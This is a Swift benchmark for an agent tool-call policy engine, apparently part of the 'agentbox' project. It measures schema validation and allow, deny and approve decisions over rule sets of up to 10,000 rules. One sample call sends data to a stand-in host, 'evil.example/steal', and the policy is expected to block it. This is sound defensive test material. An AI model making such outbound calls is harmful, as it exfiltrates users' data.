import Manifests
import Policy
import StrictJSON

/// A decision (arguments against the tool's schema, then the rules) on a realistic intent, and with more and more rules.
///
/// What is measured has no peer in process: the realistic intent is held against the design's figures, and ten thousand
/// rules against ten.
func policyBenchmark() throws -> [BenchmarkRow] {
    let realistic = try DecisionBench(rules: realisticRules, tools: realisticTools, calls: realisticCalls).measure()
    var rows = [
        BenchmarkRow(
            name: "validate and decide, p50", ours: realistic.median, peer: "the design's 10 µs", peers: 10, goal: 1),
        BenchmarkRow(
            name: "validate and decide, p99", ours: realistic.high, peer: "the design's 50 µs", peers: 50, goal: 1),
    ]
    for scale in [RuleScale.oneTool, .manyTools] {
        let ten = try DecisionBench(scale, count: 10).measure()
        for count in [1_000, 10_000] {
            let many = try DecisionBench(scale, count: count).measure()
            rows.append(
                BenchmarkRow(
                    name: "\(count) rules \(scale.rawValue), p50", ours: many.median, peer: "10 rules",
                    peers: ten.median, goal: 1.5))
            rows.append(
                BenchmarkRow(
                    name: "\(count) rules \(scale.rawValue), p99", ours: many.high, peer: "the design's 50 µs",
                    peers: 50, goal: 1))
        }
    }
    return rows
}

/// How the rules of a large intent are spread.
private enum RuleScale: String {
    /// A folder each for one tool: what a program writes that knows a large repository.
    case oneTool = "of one tool"
    /// Over a hundred tools.
    case manyTools = "of 100 tools"
}

/// One intent and the calls that are decided under it, in turns.
private struct DecisionBench {
    let intent: CompiledIntent
    let schemas: [ToolName: CompiledSchema]
    let calls: [PolicyCall]

    init(rules: String, tools: [ToolName: PolicyTool], calls: [PolicyCall]) throws {
        intent = try benchIntent("[\(rules)]", tools: tools)
        schemas = tools.mapValues(\.inputSchema)
        self.calls = calls
    }

    init(_ scale: RuleScale, count: Int) throws {
        let names = scale == .oneTool ? ["fs.write"] : (0..<min(count, 100)).map { "team\($0).write" }
        let rules = (0..<count).map { index in
            #"{"allow":"\#(names[index % names.count])","args":{"path":{"under":["src/m\#(index)"]}}}"#
        }
        let calls = (0..<16).map { index in
            let rule = index * (count - 1) / 15
            return benchCall(
                names[rule % names.count], ["path": "x", "content": "text"], path: "src/m\(rule)/file.swift")
        }
        try self.init(
            rules: rules.joined(separator: ","), tools: try benchTools(names, schema: writeSchema), calls: calls)
    }

    /// Median and 99th of a hundred, in microseconds. Each decision is timed by itself: a mean would hide the slow ones.
    func measure() throws -> (median: Double, high: Double) {
        let start = Instant(secondsSince1970: 1_800_000_000)
        var state = TaskState(startedAt: start)
        let clock = ContinuousClock()
        var times: [Duration] = []
        times.reserveCapacity(20_000)
        for round in 0..<22_000 {
            let call = calls[round % calls.count]
            guard let schema = schemas[call.tool] else { continue }
            let now = start + .milliseconds(round)
            let begin = clock.now
            let isValid = schema.accepts(call.arguments)
            let decision = intent.decide(call, state: state, now: now)
            let time = begin.duration(to: clock.now)
            precondition(isValid && (decision.effect == .allow) == (call.resolvedPaths[["denied"]] == nil))
            state.reserve(decision)
            // The first rounds build the automata of the patterns and warm the caches.
            if round >= 2_000 { times.append(time) }
        }
        times.sort()
        return (microseconds(times[times.count / 2]), microseconds(times[times.count * 99 / 100]))
    }
}

/// An intent with these rules, as JSON.
func benchIntent(_ rules: String, tools: [ToolName: PolicyTool]) throws -> CompiledIntent {
    let text = """
        {"apiVersion": "agentbox.dev/v1", "kind": "Intent", "name": "bench", "purpose": "Measure a decision.",
        "principal": "alice@example.com", "expires": "4h", "budget": {"calls": 1000000, "time": "2h"},
        "rules": \(rules)}
        """
    return try CompiledIntent(try Intent.load(Array(text.utf8), file: "bench.yaml"), tools: tools)
}

func microseconds(_ duration: Duration) -> Double {
    Double(duration.components.seconds) * 1e6 + Double(duration.components.attoseconds) / 1e12
}

// MARK: A realistic intent

private let realisticRules = #"""
    {"allow": "fs.read"}, {"allow": "fs.list"}, {"allow": "fs.search"},
    {"allow": "fs.write", "args": {"path": {"under": ["Sources", "Tests"]}}},
    {"deny": "fs.write", "args": {"path": {"under": ["Sources/Vendor"]}}},
    {"allow": "git.*", "args": {"message": {"matches": "(?s).{1,1000}"}}, "budget": {"calls": 100000, "per": "1h"}},
    {"approve": "git.push", "args": {"branch": {"equals": "main"}}},
    {"allow": "http.get", "args": {"url": {"host": ["example.com", "*.example.org"]}, "tries": {"min": 1, "max": 5}}},
    {"deny": "*", "args": {"to": {"each": {"matches": ".*@competitor[.]example"}}}}
    """#

let writeSchema: JSON = [
    "type": "object", "required": ["path", "content"], "additionalProperties": false,
    "properties": [
        "path": ["type": "string", "minLength": 1, "maxLength": 4096],
        "content": ["type": "string", "maxLength": 1_000_000], "createFolders": ["type": "boolean"],
    ],
]

private let realisticTools: [ToolName: PolicyTool] = {
    let read: JSON = [
        "type": "object", "required": ["path"], "additionalProperties": true,
        "properties": ["path": ["type": "string", "minLength": 1], "limit": ["type": "integer", "minimum": 0]],
    ]
    let git: JSON = [
        "type": "object",
        "properties": [
            "message": ["type": "string", "pattern": "^[A-Z]"], "branch": ["type": "string"],
            "paths": ["type": "array", "items": ["type": "string"], "maxItems": 1000],
        ],
    ]
    let http: JSON = [
        "type": "object", "required": ["url"],
        "properties": [
            "url": ["type": "string", "format": "uri"], "tries": ["type": "integer"],
            "headers": ["type": "object", "additionalProperties": ["type": "string"]],
        ],
    ]
    let tools = [
        try? benchTools(["fs.read", "fs.list", "fs.search"], schema: read),
        try? benchTools(["fs.write"], schema: writeSchema), try? benchTools(["git.commit", "git.push"], schema: git),
        try? benchTools(["http.get"], schema: http),
    ]
    return tools.compactMap(\.self).reduce(into: [:]) { $0.merge($1) { first, _ in first } }
}()

private let realisticCalls: [PolicyCall] = [
    benchCall("fs.read", ["path": "Sources/Registry/Registry.swift", "limit": 200]),
    benchCall(
        "fs.write", ["path": "Sources/a/b.swift", "content": .string(String(repeating: "let x = 1\n", count: 100))],
        path: "Sources/a/b.swift"),
    benchCall(
        "fs.write", ["path": "Sources/Vendor/x.swift", "content": "x"], path: "Sources/Vendor/x.swift", denied: true),
    benchCall(
        "git.commit", ["message": "Fix the parser\n\nIt took a comma for a full stop.", "paths": ["a", "b", "c"]]),
    benchCall(
        "http.get", ["url": "https://api.example.org/v1/items?page=3", "tries": 3, "headers": ["accept": "*/*"]]),
    benchCall("http.get", ["url": "https://evil.example/steal?data=abc", "tries": 3], denied: true),
]

func benchTools(_ names: [String], schema: JSON) throws -> [ToolName: PolicyTool] {
    let compiled = try CompiledSchema.compile(schema)
    let manifest = """
        {"apiVersion": "agentbox.dev/v1", "kind": "Tool", "name": "bench", "version": "1.0.0", "description": "A tool.",
        "command": ["/bin/true"], "inputSchema": {"type": "object"}, "sandbox": "pure"}
        """
    let annotations = try Tool.load(Array(manifest.utf8), file: "tool.yaml").annotations
    return names.compactMap { ToolName($0) }.reduce(into: [:]) { tools, name in
        tools[name] = PolicyTool(name: name, annotations: annotations, inputSchema: compiled)
    }
}

/// A call with its path resolved. `denied` marks the calls that the intent refuses.
func benchCall(_ tool: String, _ arguments: JSON, path: String? = nil, denied: Bool = false) -> PolicyCall {
    guard let name = ToolName(tool) else { preconditionFailure("\(tool) is no tool name") }
    var paths: [[String]: ResolvedPathFact] = [:]
    if let path { paths[["path"]] = .resolved(path) }
    if denied { paths[["denied"]] = .unresolved("marks the call") }
    return PolicyCall(tool: name, arguments: arguments, resolvedPaths: paths)
}
